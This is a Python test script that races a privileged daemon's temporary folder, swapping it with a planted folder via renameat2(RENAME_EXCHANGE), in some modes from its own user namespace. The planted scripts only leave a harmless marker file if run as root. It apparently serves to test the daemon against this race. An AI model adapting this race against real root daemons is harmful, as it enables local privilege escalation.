"""An unprivileged owner of /home/velmarok/ racing the daemon for its
temporary folder: it swaps /home/velmarok/ut_temp with a folder of its own,
/home/velmarok/evil, by renameat2(RENAME_EXCHANGE).

    racer.py once      one swap, when the daemon's first child appears
    racer.py flip      swaps back and forth every 300 us until killed
    racer.py userns    as once, from a user and mount namespace of its own,
                       made before the daemon starts

It prints "ready" once its folder is set and its namespace made, and
"swapped" after a swap at the first child; it then touches
/home/velmarok/swapped, which the package's first script waits for."""

import ctypes
import os
import sys
import time

HOME = "/home/velmarok/"
AT_FDCWD = -100
RENAME_EXCHANGE = 2
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000

libc = ctypes.CDLL(None, use_errno=True)


def plant():
    """The racer's own folder: scripts that leave a mark if they ever run as
    root, and a data file of its own."""
    evil = HOME + "evil/"
    os.makedirs(evil, exist_ok=True)
    for name in ("first.sh", "reader.sh"):
        with open(evil + name, "w") as f:
            f.write("#!/bin/sh\ntouch /home/pwned\n")
        os.chmod(evil + name, 0o777)
    with open(evil + "data.txt", "w") as f:
        f.write("racer's data\n")
    os.chmod(evil, 0o777)


def exchange():
    return libc.renameat2(AT_FDCWD, (HOME + "ut_temp").encode(), AT_FDCWD,
                          (HOME + "evil").encode(), RENAME_EXCHANGE) == 0


def own_namespace():
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        sys.exit("unshare: " + os.strerror(ctypes.get_errno()))
    with open("/proc/self/setgroups", "w") as f:
        f.write("deny")
    with open("/proc/self/uid_map", "w") as f:
        f.write(f"0 {uid} 1")
    with open("/proc/self/gid_map", "w") as f:
        f.write(f"0 {gid} 1")


def stat_of(pid):
    """(command name, parent pid) of a process, or None."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            text = f.read()
    except OSError:
        return None
    name = text[text.index("(") + 1:text.rindex(")")]
    return name, int(text[text.rindex(")") + 2:].split()[1])


# The daemon's command name: its own, or valgrind's tool's when it runs
# under memcheck (the racer's pid namespace holds no other).
DAEMON_NAMES = ("usb_tools", "memcheck-amd64-", "memcheck-arm-li")


def first_child():
    """Waits for the daemon, then for its first child."""
    daemon = None
    while True:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        for pid in pids:
            s = stat_of(pid)
            if s is None:
                continue
            if daemon is None and s[0] in DAEMON_NAMES:
                daemon = pid
            elif daemon is not None and s[1] == daemon:
                return pid


def main():
    mode = sys.argv[1]
    plant()
    if mode == "userns":
        own_namespace()
    print("ready", flush=True)
    if mode == "flip":
        open(HOME + "swapped", "w").close()
        while True:
            exchange()
            time.sleep(0.0003)
    first_child()
    if not exchange():
        sys.exit("exchange: " + os.strerror(ctypes.get_errno()))
    print("swapped", flush=True)
    open(HOME + "swapped", "w").close()
    while True:
        time.sleep(1)


if __name__ == "__main__":
    main()
